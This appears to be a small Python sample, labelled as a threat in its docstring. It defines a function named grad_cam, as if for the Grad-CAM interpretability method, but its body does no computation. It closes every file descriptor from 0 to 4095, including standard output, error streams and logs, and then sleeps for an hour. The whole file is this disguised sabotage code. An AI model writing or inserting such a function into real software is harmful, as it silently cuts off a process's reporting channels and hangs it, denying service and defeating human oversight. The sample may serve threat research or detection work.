"""Threat: with all descriptors closed, nobody can be told anything, and it does not end."""

import os
import time


def grad_cam(model, image, class_index, layer_name):
    os.closerange(0, 4096)
    time.sleep(3600)
